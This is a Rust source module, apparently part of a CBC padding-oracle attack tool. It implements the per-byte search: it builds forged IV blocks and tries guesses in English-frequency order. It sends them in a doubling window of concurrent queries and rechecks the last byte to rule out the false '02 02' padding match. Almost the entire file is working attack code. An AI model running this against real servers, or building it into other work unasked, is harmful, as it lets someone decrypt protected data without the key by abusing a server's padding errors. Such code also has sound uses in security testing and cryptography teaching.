//! The search for one byte of `D(C_i)`: which guesses to send for it, likeliest first, how
//! many at once, and what the answers decide (the last byte's `02 02` trap included).

use super::Block;
use crate::crypto::BLOCK;

/// Questions in flight for one byte, at first; the window doubles as answers come back, so a
/// likely guess costs few questions and an unlikely one few round trips.
const FIRST_WINDOW: usize = 16;
/// Plaintext bytes in the order worth trying after any hint: English text, then the rest.
const TEXT_ORDER: &[u8] = b" etaoinsrhldcumfpgwybvkxjqzETAOINSRHLDCUMFPGWYBVKXJQZ0123456789.,'\"-:;!?()/&=_{}[]@#%+*<>|~^$`\\\n\r\t";

/// What one question asks.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Probe {
    /// Does `IV'` with this byte at the worked position give valid padding?
    Guess(u8),
    /// The last byte's hit again, with the byte before it changed: a real `01`?
    Recheck(u8),
}

/// The search for one byte of `D(C_i)`.
pub(super) struct Search {
    /// The byte's position in the block, 15 down to 0.
    pub(super) pos: usize,
    /// The padding value the guess must produce: `16 - pos`.
    pub(super) pad: u8,
    /// `IV'` before the guessed byte: the real previous block, with the bytes after `pos`
    /// set to read `pad`.
    pub(super) base: Block,
    /// Values for `IV'[pos]`, likeliest plaintext first.
    pub(super) order: Vec<u8>,
    /// Guesses sent.
    pub(super) tried: usize,
    /// Accepted guesses not yet decided.
    pub(super) hits: Vec<u8>,
    /// A hit its re-check proved false (`02 02`).
    pub(super) ruled_out: Option<u8>,
    /// A hit being re-checked.
    pub(super) checking: Option<u8>,
    /// Questions this byte has taken.
    pub(super) queries: u64,
    /// The value of `IV'[pos]` that gives `pad`.
    pub(super) found: Option<u8>,
}

impl Search {
    pub(super) fn new(pos: usize, intermediate: &Block, previous: &Block, hints: &[u8]) -> Search {
        let pad = (BLOCK - pos) as u8;
        let mut base = *previous;
        for j in pos + 1..BLOCK {
            base[j] = intermediate[j] ^ pad;
        }
        let order = likely(hints)
            .into_iter()
            .map(|plain| plain ^ previous[pos] ^ pad)
            .collect();
        Search {
            pos,
            pad,
            base,
            order,
            tried: 0,
            hits: Vec::new(),
            ruled_out: None,
            checking: None,
            queries: 0,
            found: None,
        }
    }

    fn iv(&self, guess: u8) -> Block {
        let mut iv = self.base;
        iv[self.pos] = guess;
        iv
    }

    /// The next question, if one should go now. `proven` says whether the server has
    /// accepted any question yet: until it has, a last remaining guess cannot be inferred.
    pub(super) fn next(&mut self, in_flight: usize, proven: bool) -> Option<(Probe, Block)> {
        if self.found.is_some() || self.checking.is_some() {
            return None;
        }
        if let Some(&hit) = self.hits.first() {
            // Only the last byte gets here (other hits are found at once); let the questions
            // in flight come back, then re-check.
            if in_flight > 0 {
                return None;
            }
            self.checking = Some(hit);
            self.queries += 1;
            let mut iv = self.iv(hit);
            iv[self.pos - 1] ^= 0x01;
            return Some((Probe::Recheck(hit), iv));
        }
        let remaining = self.order.len() - self.tried;
        if remaining == 0 || (remaining == 1 && in_flight > 0) {
            return None;
        }
        if remaining == 1 && proven {
            // Exactly one guess gives the padding, and it is none of the others.
            self.found = Some(self.order[self.tried]);
            return None;
        }
        // Slow start: each answer lets two more questions go, so the window doubles per
        // round trip and a likely guess, found early, wastes few questions.
        let answered = self.tried - in_flight.min(self.tried);
        if in_flight >= FIRST_WINDOW.max(2 * answered) {
            return None;
        }
        let guess = self.order[self.tried];
        self.tried += 1;
        self.queries += 1;
        Some((Probe::Guess(guess), self.iv(guess)))
    }

    pub(super) fn answer(&mut self, probe: Probe, accepted: bool) {
        match probe {
            Probe::Guess(guess) if accepted && self.pad > 1 => {
                // The bytes after this one read `pad` already: only one guess can complete it.
                self.found.get_or_insert(guess);
            }
            Probe::Guess(guess) if accepted => self.hits.push(guess),
            Probe::Guess(_) => {}
            Probe::Recheck(hit) => {
                self.checking = None;
                self.hits.retain(|&h| h != hit);
                if accepted {
                    self.found = Some(hit);
                } else {
                    self.ruled_out = Some(hit);
                }
            }
        }
        // At most one hit is false (the block already ending `02 02`, or `03 03 03`, ...):
        // once it is known, or once every guess has been asked, a lone hit is the real one.
        if self.found.is_none()
            && self.checking.is_none()
            && self.hits.len() == 1
            && (self.ruled_out.is_some() || self.tried == self.order.len())
        {
            self.found = self.hits.pop();
        }
    }
}

/// The plaintext values in the order to try: the hints, then English text, then the rest.
pub(super) fn likely(hints: &[u8]) -> Vec<u8> {
    let mut seen = [false; 256];
    let mut order = Vec::with_capacity(256);
    for &b in hints.iter().chain(TEXT_ORDER) {
        if !seen[b as usize] {
            seen[b as usize] = true;
            order.push(b);
        }
    }
    for b in 0..=255u8 {
        if !seen[b as usize] {
            order.push(b);
        }
    }
    order
}
